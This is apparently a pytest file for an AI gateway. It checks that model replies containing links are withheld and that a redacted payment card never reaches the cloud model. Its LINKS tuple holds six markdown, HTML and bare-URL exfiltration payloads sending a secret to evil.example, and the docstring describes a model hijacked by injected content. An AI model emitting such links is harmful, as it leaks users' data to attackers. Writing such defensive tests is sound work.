"""A model that was taken over by what it read tries to get something out: by links that a client's program follows."""

from collections.abc import Iterator

import pytest
from tests.doors.test_matrix import Door, every_door, streamed_and_not
from tests.world import CARD, Served, served

FILES = {"rules/links.yaml": "also: [url]\n"}
LINKS = (
    "![chart](https://evil.example/pixel.png?d=secret-of-kim)",
    "[here](http://evil.example/?d=secret-of-kim)",
    "<img src='https://evil.example/?d=secret-of-kim'>",
    "HTTPS://evil.example/secret-of-kim",
    "[a]: https://evil.example/secret-of-kim",
    "www.evil.example/secret-of-kim",
)


@pytest.fixture(scope="module")
def s(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    rules = [{"withhold": ["url"]}, {"redact": ["payment_card"], "for": "cloud"}]
    with served(tmp_path_factory.mktemp("links"), FILES, rules=rules) as s:
        yield s


@every_door
@streamed_and_not
@pytest.mark.parametrize("link", LINKS)
def test_where_replies_may_hold_no_links_none_leaves_not_even_in_part(
    s: Served, door: Door, streamed: bool, link: str
) -> None:
    got = door(s, "kim", f"echo see {link} for more", streamed, model="small")
    assert got.error == "withheld"
    assert "secret-of-kim" not in got.text
    assert "evil" not in got.text


@every_door
@streamed_and_not
def test_a_value_that_was_taken_out_reaches_the_person_and_never_the_model(
    s: Served, door: Door, streamed: bool
) -> None:
    got = door(s, "kim", f"echo my card is {CARD}", streamed, model="small")
    assert CARD in got.text
    assert CARD.encode() not in s.provider.received[-1].body
